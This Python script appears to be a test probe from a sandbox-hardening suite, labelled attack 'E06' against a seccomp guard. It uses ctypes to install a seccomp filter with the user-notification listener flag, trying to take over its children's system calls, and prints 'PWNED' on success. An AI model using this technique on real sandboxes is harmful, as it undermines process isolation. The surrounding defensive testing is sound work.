"""Become the one who answers its children's system calls, so that they see what it likes and wait for ever.

attack: E06 stand between the kernel and other processes of the sandbox
guard: seccomp
ending: exited
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
NUMBER = {"x86_64": 317, "aarch64": 277}[os.uname().machine]
RETURN_ALLOW = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
program = ctypes.create_string_buffer(RETURN_ALLOW)
filter_ = struct.pack("HxxxxxxQ", 1, ctypes.addressof(program))
listener = libc.syscall(NUMBER, 1, 8, ctypes.create_string_buffer(filter_))
print("PWNED" if listener >= 0 else "held")
